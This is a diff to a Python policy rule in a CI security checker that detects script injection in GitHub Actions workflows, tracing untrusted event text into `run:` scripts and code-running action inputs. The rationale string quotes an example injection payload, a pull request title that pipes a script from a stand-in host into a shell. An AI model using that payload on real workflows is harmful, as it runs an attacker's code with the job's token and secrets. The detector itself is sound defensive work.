@@ -1,61 +1,501 @@
 """ORG-GHA-003: untrusted `${{ }}` expressions expanded into code."""
 from __future__ import annotations
 
-from collections.abc import Iterator
+import dataclasses
+import re
+from collections.abc import Iterator, Sequence
 
-from checker.documents import Document, YamlMap
+from checker.documents import Document, YamlMap, YamlSeq
 from checker.policy import Context, Violation, policy
 
-from .._helpers import text_lines
-from .workflow import EXPRESSION, UNTRUSTED, action_name, jobs, run_text, steps, text_operands
+from .._helpers import get_path, text_lines
+from .workflow import (
+    EXPRESSION,
+    UNTRUSTED,
+    Flow,
+    action_name,
+    alias_line,
+    jobs,
+    outsider_field,
+    value_flows,
+)
+
+# Inputs of actions that run their value as code, and the language it runs as: the actions GitHub's CodeQL
+# models and zizmor name as code-injection sinks. An expression in one of these inputs is expanded into the
+# code before it runs, as in `run:`. The rule's docstring lists them too (it is the rule's documentation).
+CODE_INPUTS: dict[str, tuple[frozenset[str], str]] = {
+    "actions/github-script": (frozenset({"script"}), "JavaScript"),
+    "amadevus/pwsh-script": (frozenset({"script"}), "PowerShell"),
+    "azure/powershell": (frozenset({"inlinescript"}), "PowerShell"),
+    "azure/cli": (frozenset({"inlinescript"}), "a shell script"),
+    "appleboy/ssh-action": (frozenset({"script"}), "a shell script on the remote host"),
+    "addnab/docker-run-action": (frozenset({"run", "options"}), "a shell command line in a container"),
+    "mikefarah/yq": (frozenset({"cmd"}), "a shell command line"),
+    "devorbitus/yq-action-output": (frozenset({"cmd"}), "a shell command line"),
+    "sergeysova/jq-action": (frozenset({"cmd"}), "a shell command line"),
+    "jannekem/run-python-script-action": (frozenset({"script"}), "Python"),
+    "cardinalby/js-eval-action": (frozenset({"expression"}), "JavaScript"),
+    "tibdex/backport": (frozenset({"title_template", "body_template", "head_template", "labels_template"}),
+                        "a lodash template, which runs JavaScript"),
+    "8398a7/action-slack": (frozenset({"custom_payload"}), "JavaScript"),
+    "skitionek/notify-microsoft-teams": (frozenset({"overwrite"}), "JavaScript"),
+    "gautamkrishnar/blog-post-workflow": (frozenset({"item_exec"}), "JavaScript"),
+    "roots/issue-closer-action": (frozenset({"issue-close-message", "pr-close-message"}),
+                                  "a JavaScript template literal"),
+    "lucasbento/auto-close-issues": (frozenset({"issue-close-message"}), "a JavaScript template literal"),
+    "imjohnbo/issue-bot": (frozenset({"body", "linked-comments-previous-issue-text", "linked-comments-new-issue-text"}),
+                           "a template (CodeQL models it as evaluated code)"),
+}
+# Actions whose outputs repeat text an outsider wrote: the output names, and whose text it is (listed in
+# the docstring too).
+ECHOING_OUTPUTS: dict[str, tuple[re.Pattern[str], str]] = {
+    "tj-actions/branch-names": (re.compile(r"^(?:current_branch|head_ref_branch)$"),
+                                "the pull request's source branch name, which its author chooses"),
+    "xt0rted/pull-request-comment-branch": (re.compile(r"^(?:head_ref|ref)$"),
+                                            "the pull request's source branch name, which its author chooses"),
+    "8bitjonny/gh-get-current-pr": (re.compile(r"^(?:pr_title|pr_body)$"),
+                                    "a pull request's title or description, which its author writes"),
+    "stefanbuck/github-issue-parser": (re.compile(r".*"), "the answers of an issue form, which whoever opens it types"),
+}
+# Programs that run their arguments as code, as a `docker://` step's entrypoint or the first word of its args.
+_INTERPRETER = re.compile(r"^(?:\S*/)?(?:sh|bash|dash|ash|zsh|ksh|pwsh|powershell|python[\d.]*|node|perl|ruby)$")
+_SHELL_ARGS = re.compile(r"^\s*(?:\S*/)?(?:sh|bash|dash|ash|zsh|ksh|pwsh|powershell)\s+(?:-\w*c\w*|-Command)\b")
+# The language a fix reads a variable in (`_READ`), by shell and by action; any other reads it its own way.
+_SHELL_LANGUAGE = {"pwsh": "pwsh", "powershell": "pwsh", "cmd": "cmd", "python": "python", "python3": "python"}
+_ACTION_LANGUAGE = {"actions/github-script": "javascript", "amadevus/pwsh-script": "pwsh",
+                    "jannekem/run-python-script-action": "python"}
+_OUTPUT_WRITE = re.compile(r"GITHUB_OUTPUT|::set-output\b")
+_VARIABLE = re.compile(r"\$\{?(?:env:)?([A-Za-z_]\w*)|%([A-Za-z_]\w*)%")
+_MAX_DEPTH = 8  # env -> step output -> job output -> ... : deeper chains are not followed
+
+
+@dataclasses.dataclass(frozen=True)
+class Taint:
+    """Where an outsider's text comes from: the field (`` `github.event.issue.title` ``, an action's output,
+    quoted for the message), who writes it, and the contexts it passes through on the way (`env.TITLE`)."""
+
+    source: str
+    why: str
+    via: tuple[str, ...] = ()
+
+
+@dataclasses.dataclass(frozen=True)
+class Scope:
+    """What an expression can read where it is written: the workflow, its job and the job's steps (for
+    `steps.<id>.outputs`), and the `env:` mappings in sight, innermost first."""
+
+    workflow: YamlMap
+    job: YamlMap | None = None
+    steps: tuple[YamlMap, ...] = ()
+    envs: tuple[YamlMap, ...] = ()
+
+
+@dataclasses.dataclass(frozen=True)
+class Sink:
+    """A value run as code: its key in the step, its text, the line of its key, the line of the alias that
+    uses it (None when written in place), what runs it (for the message) and the fix's language."""
+
+    key: str
+    value: str
+    line: int
+    used_at: int | None
+    what: str
+    language: str
 
 
 @policy(
     id="ORG-GHA-003",
-    title="Untrusted event data is not expanded inside run scripts",
+    title="Untrusted text is not expanded into code a workflow runs",
     kinds=["github-actions"],
     severity="high",
     rationale=(
-        "`${{ }}` is substituted into the script before the shell runs it, so a pull request title such as "
-        "`a\"; curl evil.sh | sh; #` becomes code (script injection)."
+        "`${{ }}` is substituted into the code before the shell or interpreter reads it, so a pull request "
+        "title such as `a\"; curl evil.sh | sh; #` becomes code that runs with the job's token and secrets "
+        "(script injection); an environment variable is passed as data and never parsed as code."
     ),
     remediation="""
-        Pass the value through an environment variable and quote it in the shell:
+        Pass the value through an environment variable and read it as a variable, quoted:
 
             - name: Greet
               env:
                 TITLE: ${{ github.event.pull_request.title }}
               run: echo "Title: $TITLE"
+
+        In PowerShell read `$env:TITLE`, in `actions/github-script` `process.env.TITLE`. A value already in
+        `env:` is read as `"$TITLE"`, not `${{ env.TITLE }}`. An action input that runs code (the actions
+        listed above) should not receive outside text at all.
     """,
-    controls=["PCI-DSS-4.0:6.2.4"],
     tags=["ci-security", "injection"],
-    covers=["CKV_GHA_2"],  # the same untrusted contexts in run:, and more of them, and github-script too
+    covers=["CKV_GHA_2"],  # every context CKV_GHA_2 looks for in run:, and more contexts, sinks and paths to them
 )
-
-
 def no_script_injection(doc: Document, ctx: Context) -> Iterator[Violation]:
-    """No `run:` script (and no `actions/github-script` `script:`) expands an expression an outsider
-    controls: issue, pull request, comment, review and discussion titles and bodies, commit messages and
-    authors, branch names (`github.head_ref`, `...head.ref`, `workflow_run.head_branch`) and similar.
+    """No code a workflow runs expands an expression whose text an outsider can write.
 
-    Expressions that only yield true/false (`${{ github.event.issue.title == 'x' }}`,
-    `${{ contains(github.head_ref, 'docs') }}`) carry no text and are exempt; functions that pass text on
-    (`format()`, `toJSON()`, `||`) are not. Each finding points at the line of the script that holds
-    the expression.
+    **Sinks**: `run:` scripts in any shell (bash, `pwsh`, `cmd`, `python`, a custom `shell:`), in `parallel:`
+    groups too; the inputs that actions run as code, from GitHub's CodeQL models and zizmor's list:
+    `actions/github-script` `script`, `Amadevus/pwsh-script` `script`, `azure/powershell` and `azure/cli`
+    `inlineScript`, `appleboy/ssh-action` `script`, `addnab/docker-run-action` `run` and `options`,
+    `mikefarah/yq`, `devorbitus/yq-action-output` and `sergeysova/jq-action` `cmd`,
+    `jannekem/run-python-script-action` `script`, `cardinalby/js-eval-action` `expression`,
+    `tibdex/backport`'s four `*_template`s, `8398a7/action-slack` `custom_payload`,
+    `skitionek/notify-microsoft-teams` `overwrite`, `gautamkrishnar/blog-post-workflow` `item_exec`,
+    `roots/issue-closer-action` and `lucasbento/auto-close-issues` close messages and `imjohnbo/issue-bot`
+    `body` and linked-comment texts; and a `docker://` step's `entrypoint`, and its `args` when the
+    entrypoint is a shell or interpreter or the args start a shell with `-c`.
+
+    **Sources**: issue, pull request, discussion, comment and review titles and bodies; label names
+    (`github.event.*.labels.*.name`, `github.event.label.name`); source branch names (`github.head_ref`,
+    `...head.ref`, `...head.label`, the fork's default branch, `...head_branch` of `workflow_run` and check
+    suites, `workflow_run.pull_requests.*.head.ref`); commit messages and author and committer names and
+    emails; wiki page names; `workflow_run.display_title`; the previous text in `github.event.changes`;
+    a `repository_dispatch` event's `client_payload`. And what the workflow's own plumbing carries from
+    them: `inputs.X` and `github.event.inputs.X` declared free text (`type: string`, or no type under
+    `workflow_dispatch`), because a reusable workflow cannot know that its caller passes no pull request
+    title and a dispatched job may hold secrets its dispatcher cannot read; `env.X` when the innermost
+    `env:` (step, job, workflow) that sets X sets it from a source; `matrix.x` when the axis, an
+    `include:` entry or the whole matrix is built from one; `steps.<id>.outputs.Y` when that step writes Y
+    to `$GITHUB_OUTPUT` from a source, directly or through its `env:`, or is an action that repeats
+    outside text (`tj-actions/branch-names` `current_branch` and `head_ref_branch`,
+    `xt0rted/pull-request-comment-branch` `head_ref` and `ref`, `8BitJonny/gh-get-current-pr` `pr_title`
+    and `pr_body`, every output of `stefanbuck/github-issue-parser`); `needs.<job>.outputs.Y` set from any
+    of these.
+
+    **Expressions** are parsed, not matched as text: the index syntax (`github.event['issue']['title']`),
+    `*` filters, `format()`, `join()`, `fromJSON()`, `toJSON()` of an object holding a source, `||`, `&&`
+    and expressions written over several lines are followed; comparisons, `!`, `contains()`,
+    `startsWith()`, `endsWith()` and the status functions yield only true or false and pass; a field of a
+    computed value (`(github.event.pull_request || github.event.issue).number`) is judged as that field.
+
+    **Not flagged**: what GitHub or people with write access set: `github.ref`, `github.ref_name` and
+    `github.base_ref` (a pull request's run has `refs/pull/N/merge` and its base branch; whoever pushes a
+    branch or tag with a crafted name also writes the workflow that runs on it), `github.actor`, numbers,
+    SHAs, logins, release names and tags, `secrets`, `vars`; boolean, number and choice inputs; what the
+    check cannot trace (`env.X` set through `$GITHUB_ENV`, a matrix from an output it cannot follow,
+    other actions' outputs); `docker://` args run by the image's own entrypoint; and sources where they
+    are data, not code: `env:`, `if:`, `name:` and other actions' `with:`. The triggers are not weighed:
+    a workflow that reads an issue title on `push` today reads it on `issues` tomorrow.
+
+    Each finding points at the line that holds the source inside the code (the context's own line when
+    an expression spans several) or at the line that reuses it through a YAML alias (`run: *script`,
+    `steps: *steps`, `- *step`, `<<: *step`), and names the expression, the source, the sink and the fix.
     """
-    for job_id, job, _ in jobs(doc.data):
-        for i, step in steps(job):
-            scripts: list[tuple[str, int, str]] = []
-            if run_text(step):
-                scripts.append((run_text(step), step.line_of("run"), "run"))
-            with_ = step.get("with")
-            if action_name(step.get("uses")).lower() == "actions/github-script" and isinstance(with_, YamlMap) \
-                    and isinstance(with_.get("script"), str):
-                scripts.append((with_["script"], with_.line_of("script"), "with.script"))
-            for script, start, key in scripts:
-                for line, piece in text_lines(script, doc.text, start, step.end_line):
-                    for expression in EXPRESSION.findall(piece):
-                        found = next(filter(None, (UNTRUSTED.search(part) for part in text_operands(expression))), None)
-                        if found:
-                            yield Violation(f"untrusted `{found.group(0)}` is expanded inside {key}; "
-                                            "pass it through env: instead", line, f"jobs.{job_id}.steps[{i}].{key}")
+    workflow = doc.data
+    if not isinstance(workflow, YamlMap):
+        return
+    source = doc.text.splitlines()
+    seen: set[tuple[int, str, str]] = set()
+    for job_id, job, _ in jobs(workflow):
+        job_steps = list(_job_steps(source, job, alias_line(source, workflow.get("jobs"), job_id)))
+        flat = tuple(step for _, step, _ in job_steps)
+        for where, step, used_at in job_steps:
+            scope = Scope(workflow, job, flat, _envs(step, job, workflow))
+            for sink in _sinks(source, workflow, job, step, used_at):
+                for line, expression, flow, taint in _findings(sink, doc.text, step.end_line, scope):
+                    key = (line, sink.key, expression)
+                    if key not in seen:
+                        seen.add(key)
+                        yield Violation(_message(expression, flow, taint, sink), line,
+                                        f"jobs.{job_id}.{where}.{sink.key}")
+
+
+def _envs(*nodes: YamlMap) -> tuple[YamlMap, ...]:
+    """The `env:` mappings of these nodes (a step, its job, the workflow), innermost first."""
+    return tuple(node["env"] for node in nodes if isinstance(node.get("env"), YamlMap))
+
+
+def _job_steps(source: Sequence[str], job: YamlMap, used_at: int | None
+               ) -> Iterator[tuple[str, YamlMap, int | None]]:
+    """(resource, step, alias line) of each step of a job, the steps of a `parallel:` group included; the
+    alias line is where the step, its list or its job is used through an alias (None when written in place)."""
+    steps = job.get("steps")
+    if not isinstance(steps, YamlSeq):
+        return
+    used_at = used_at or alias_line(source, job, "steps")
+    for i, step in enumerate(steps):
+        if not isinstance(step, YamlMap):
+            continue
+        at = used_at or alias_line(source, steps, i)
+        group = step.get("parallel")
+        if not isinstance(group, YamlSeq):
+            yield f"steps[{i}]", step, at
+            continue
+        at = at or alias_line(source, step, "parallel")
+        for j, inner in enumerate(group):
+            if isinstance(inner, YamlMap):
+                yield f"steps[{i}].parallel[{j}]", inner, at or alias_line(source, group, j)
+
+
+def _sinks(source: Sequence[str], workflow: YamlMap, job: YamlMap, step: YamlMap, used_at: int | None
+           ) -> Iterator[Sink]:
+    """Every value of a step that is run as code."""
+    run = step.get("run")
+    if isinstance(run, str):
+        shell = _shell(workflow, job, step)
+        language = _SHELL_LANGUAGE.get(shell, "posix" if shell.endswith("sh") else "")
+        yield Sink("run", run, step.line_of("run"), used_at or alias_line(source, step, "run"),
+                   f"the `run:` script before {shell} reads it", language)
+    uses = step.get("uses")
+    with_ = step.get("with")
+    if not isinstance(uses, str) or not isinstance(with_, YamlMap):
+        return
+    used_at = used_at or alias_line(source, step, "with")
+    name = action_name(uses).lower()
+    if name in CODE_INPUTS:
+        inputs, language = CODE_INPUTS[name]
+        for key, value in with_.items():
+            if str(key).lower() in inputs and isinstance(value, str):
+                yield Sink(f"with.{key}", value, with_.line_of(key), used_at or alias_line(source, with_, key),
+                           f"`with.{key}` of {action_name(uses)}, which runs it as {language}",
+                           _ACTION_LANGUAGE.get(name, ""))
+    elif uses.startswith("docker://"):
+        entrypoint, args = with_.get("entrypoint"), with_.get("args")
+        runs_args = isinstance(entrypoint, str) and _INTERPRETER.match(entrypoint.strip())
+        for key, value in (("entrypoint", entrypoint), ("args", args)):
+            if isinstance(value, str) and (key == "entrypoint" or runs_args or _SHELL_ARGS.match(value)):
+                what = "the program it runs" if key == "entrypoint" else "which its shell runs"
+                yield Sink(f"with.{key}", value, with_.line_of(key), used_at or alias_line(source, with_, key),
+                           f"`with.{key}` of the container {uses}, {what}", "")
+
+
+def _shell(workflow: YamlMap, job: YamlMap, step: YamlMap) -> str:
+    """The program that runs a `run:` script: the step's `shell:`, else the job's or the workflow's
+    `defaults.run.shell`, else the runner's default (bash, or PowerShell on Windows)."""
+    for shell in (step.get("shell"), get_path(job, "defaults", "run", "shell"),
+                  get_path(workflow, "defaults", "run", "shell")):
+        if isinstance(shell, str) and shell.strip():
+            return "the matrix's shell" if "${{" in shell else shell.split()[0].rsplit("/", 1)[-1].lower()
+    return "pwsh" if "windows" in str(job.get("runs-on", "")).lower() else "bash"
+
+
+def _findings(sink: Sink, text: str, end: int, scope: Scope) -> Iterator[tuple[int, str, Flow | None, Taint]]:
+    """(line, expression, context, taint) of each expression in the sink whose text an outsider can write.
+
+    The line is the alias's when the sink is used through one, else the source line that holds the
+    context (an expression can span several lines)."""
+    lines = _line_numbers(sink.value, text, sink.line, end)
+    for match in EXPRESSION.finditer(sink.value):
+        flows = value_flows(match.group(1))
+        if flows is None:  # not a valid expression: judged by the contexts it names, as written
+            found = UNTRUSTED.search(match.group(1))
+            if found:
+                offset = match.start(1) + found.start()
+                yield (sink.used_at or lines[sink.value.count("\n", 0, offset)], match.group(0), None,
+                       Taint(f"`{found.group(0)}`", "text an outsider writes"))
+            continue
+        for flow in flows:
+            taint = trace(flow, scope)
+            if taint:
+                offset = match.start(1) + flow.offset
+                yield sink.used_at or lines[sink.value.count("\n", 0, offset)], match.group(0), flow, taint
+                break
+
+
+def _line_numbers(value: str, text: str, start: int, end: int) -> list[int]:
+    """The source line of each line of a YAML string value that starts on line `start` (a blank line
+    gets the line before it)."""
+    found = iter(text_lines(value, text, start, end))
+    numbers: list[int] = []
+    for piece in value.split("\n"):
+        before = numbers[-1] if numbers else start
+        numbers.append(next(found, (before, ""))[0] if piece.strip() else before)
+    return numbers
+
+
+def trace(flow: Flow, scope: Scope, depth: int = 0) -> Taint | None:
+    """Where the text of a context comes from when an outsider writes it, None when no outsider does."""
+    head, rest = flow.path[0], flow.path[1:]
+    if head == "github" and rest[:2] == ("event", "inputs"):
+        return _input(scope.workflow, rest[2:], flow.whole)
+    if head == "github":
+        why = outsider_field(flow.path, flow.whole)
+        if why and not outsider_field(flow.path):  # an object serialised whole, not the field itself
+            why = f"serialised whole, it holds {why}"
+        return Taint(f"`{flow.text}`", why) if why else None
+    if head == "inputs":
+        return _input(scope.workflow, rest, flow.whole)
+    if depth >= _MAX_DEPTH or (not rest and not flow.whole):
+        return None
+    found: Taint | None = None
+    if head == "env":
+        found = _env(rest[0] if rest else "", scope, depth)
+    elif head == "matrix" and scope.job is not None:
+        found = _matrix(rest[0] if rest else "", scope, depth)
+    elif head == "steps" and rest[1:2] == ("outputs",) and len(rest) >= 3:
+        found = _step_output(rest[0], rest[2], scope, depth)
+    elif head == "needs" and rest[1:2] == ("outputs",) and len(rest) >= 3:
+        found = _job_output(rest[0], rest[2], scope, depth)
+    if found is None:
+        return None
+    return dataclasses.replace(found, via=(flow.text, *found.via))
+
+
+def _in_text(value: object, scope: Scope, depth: int) -> Taint | None:
+    """The first outsider's text any expression of a string value carries."""
+    if not isinstance(value, str):
+        return None
+    for match in EXPRESSION.finditer(value):
+        for flow in value_flows(match.group(1)) or []:
+            found = trace(flow, scope, depth + 1)
+            if found:
+                return found
+    return None
+
+
+def _input(workflow: YamlMap, rest: tuple[str, ...], whole: bool) -> Taint | None:
+    """A workflow input declared free text: `type: string` under `workflow_call` or `workflow_dispatch`
+    (where it is the default). Undeclared inputs, booleans, numbers and choices are not traced."""
+    on = workflow.get("on" if "on" in workflow else True)
+    for event in ("workflow_call", "workflow_dispatch"):
+        inputs = get_path(on, event, "inputs")
+        if not isinstance(inputs, YamlMap):
+            continue
+        for name, spec in inputs.items():
+            kind = spec.get("type") if isinstance(spec, YamlMap) else None
+            free = (kind is None and event == "workflow_dispatch") or str(kind).lower() == "string"
+            if free and ((whole and not rest) or rest[:1] == (str(name).lower(),)):
+                return Taint(f"`inputs.{name}`", f"a free-text input of {event}, which the "
+                             + ("calling workflow passes, maybe from a pull request" if event == "workflow_call"
+                                else "person or automation that dispatches the run types"))
+    return None
+
+
+def _env(name: str, scope: Scope, depth: int) -> Taint | None:
+    """The variable as the innermost `env:` that sets it does (`toJSON(env)`: any variable in sight)."""
+    for index, env in enumerate(scope.envs):
+        outer = dataclasses.replace(scope, envs=scope.envs[index + 1:])
+        for key, value in env.items():
+            if not name:
+                found = _in_text(value, outer, depth)
+                if found:
+                    return found
+            elif str(key).lower() == name:
+                return _in_text(value, outer, depth)
+    return None
+
+
+def _matrix(name: str, scope: Scope, depth: int) -> Taint | None:
+    """A matrix value built from an outsider's text: the matrix, the axis or its items, or an `include:`
+    entry (the axis's own key, or any key when the whole matrix is serialised)."""
+    matrix = get_path(scope.job, "strategy", "matrix")
+    outer = Scope(scope.workflow)
+    if isinstance(matrix, str):
+        return _in_text(matrix, outer, depth)
+    if not isinstance(matrix, YamlMap):
+        return None
+    values: list[object] = []
+    for key, axis in matrix.items():
+        axis_name = str(key).lower()
+        if axis_name == "include" and isinstance(axis, list):
+            values.extend(value for entry in axis if isinstance(entry, YamlMap)
+                          for k, value in entry.items() if not name or str(k).lower() == name)
+        elif axis_name == "include" or (axis_name != "exclude" and (not name or axis_name == name)):
+            values.append(axis)  # an axis, or an expression that builds the `include:` entries
+    for value in values:
+        found = next(filter(None, (_in_text(leaf, outer, depth) for leaf in _leaves(value))), None)
+        if found:
+            return found
+    return None
+
+
+def _leaves(value: object) -> Iterator[object]:
+    """The scalars of a YAML value, nested lists and mappings walked."""
+    if isinstance(value, dict):
+        for item in value.values():
+            yield from _leaves(item)
+    elif isinstance(value, list):
+        for item in value:
+            yield from _leaves(item)
+    else:
+        yield value
+
+
+def _step_output(step_id: str, name: str, scope: Scope, depth: int) -> Taint | None:
+    """An output of a step of the job: an action's known to repeat outside text, or what a `run:` step
+    writes to `$GITHUB_OUTPUT` from an outsider's text, directly or through its `env:`."""
+    step = next((s for s in scope.steps if str(s.get("id", "")).lower() == step_id), None)
+    if step is None:
+        return None
+    echoing = ECHOING_OUTPUTS.get(action_name(step.get("uses")).lower())
+    if echoing and echoing[0].match(name):
+        return Taint(f"the output `{name}` of {action_name(step['uses'])}", echoing[1])
+    run = step.get("run")
+    if not isinstance(run, str) or not _OUTPUT_WRITE.search(run):
+        return None
+    step_scope = dataclasses.replace(scope, envs=_envs(step, *(n for n in (scope.job, scope.workflow) if n)))
+    for written in _output_writes(run, name):
+        found = _in_text(written, step_scope, depth) or next(filter(None, (
+            _env(variable.lower(), step_scope, depth) for match in _VARIABLE.finditer(written)
+            for variable in match.groups() if variable)), None)
+        if found:
+            return found
+    return None
+
+
+def _output_writes(run: str, name: str) -> list[str]:
+    """The text a script writes as output `name`: after `name=` (or `name::`, the old `::set-output`) on
+    a line, or the lines of a `name<<DELIMITER` ... `DELIMITER` block."""
+    key = re.compile(rf"(?<![\w-]){re.escape(name)}(?:=|::|<<\s*['\"]?([\w-]+))", re.IGNORECASE)
+    lines = run.split("\n")
+    written: list[str] = []
+    for index, line in enumerate(lines):
+        match = key.search(line)
+        if not match:
+            continue
+        if not match.group(1):
+            written.append(line[match.end():])
+            continue
+        end = re.compile(rf"\s*(?:echo\s+)?['\"]?{re.escape(match.group(1))}['\"]?\s*(?:>>.*)?")
+        block: list[str] = []
+        for later in lines[index + 1:]:
+            if end.fullmatch(later):
+                break
+            block.append(later)
+        written.append("\n".join(block))
+    return written
+
+
+def _job_output(job_id: str, name: str, scope: Scope, depth: int) -> Taint | None:
+    """An output of a job this one needs, as that job's `outputs:` sets it from its own steps."""
+    jobs_map = scope.workflow.get("jobs")
+    if not isinstance(jobs_map, YamlMap):
+        return None
+    job = next((j for k, j in jobs_map.items() if str(k).lower() == job_id and isinstance(j, YamlMap)), None)
+    outputs = job.get("outputs") if job is not None else None
+    if job is None or not isinstance(outputs, YamlMap):
+        return None
+    steps = job.get("steps")
+    job_scope = Scope(scope.workflow, job, tuple(s for s in steps if isinstance(s, YamlMap))
+                      if isinstance(steps, YamlSeq) else (), _envs(job, scope.workflow))
+    return next((_in_text(value, job_scope, depth) for key, value in outputs.items() if str(key).lower() == name),
+                None)
+
+
+def _message(expression: str, flow: Flow | None, taint: Taint, sink: Sink) -> str:
+    """Which expression, where its text comes from, which sink runs it, and what to write instead."""
+    shown = expression if len(expression) <= 80 else expression[:74] + " ... }}"
+    origin = f"{taint.source} ({taint.why})"
+    if taint.via:
+        origin = f"`{taint.via[0]}`, set from {origin}" if len(taint.via) == 1 else \
+            f"`{taint.via[0]}`, set through {', '.join(f'`{v}`' for v in taint.via[1:])} from {origin}"
+    return f"{shown} expands {origin} into {sink.what}; {_fix(expression, flow, sink)}"
+
+
+_READ = {"posix": '"${}"', "pwsh": "$env:{}", "cmd": "%{}%", "python": "os.environ['{}']",
+         "javascript": "process.env.{}"}
+
+
+def _fix(expression: str, flow: Flow | None, sink: Sink) -> str:
+    """How to pass the value as data in the sink's language."""
+    if sink.language not in _READ:
+        if sink.key == "run":
+            return "set it in the step's `env:` and read the variable instead"
+        return ("keep outside text out of code the action runs: pass it as data (an environment variable "
+                "or a file) that the code reads")
+    inner = expression[3:-2].strip()
+    if flow is not None and flow.path[0] == "env" and len(flow.path) == 2 and inner == flow.text:
+        name = re.sub(r"^env(?:\.|\[')", "", flow.text, flags=re.IGNORECASE).rstrip("']")
+        return f"read the variable itself, {_READ[sink.language].format(name)}, which the environment already holds"
+    path = flow.path if flow else ("value",)
+    words = [part for part in path if part not in ("*", "github", "event", "outputs")] or list(path[-1:])
+    name = re.sub(r"\W", "_", "_".join(words[-2:])).upper()
+    return f"set `{name}: {expression}` in the step's `env:` and read {_READ[sink.language].format(name)} instead"
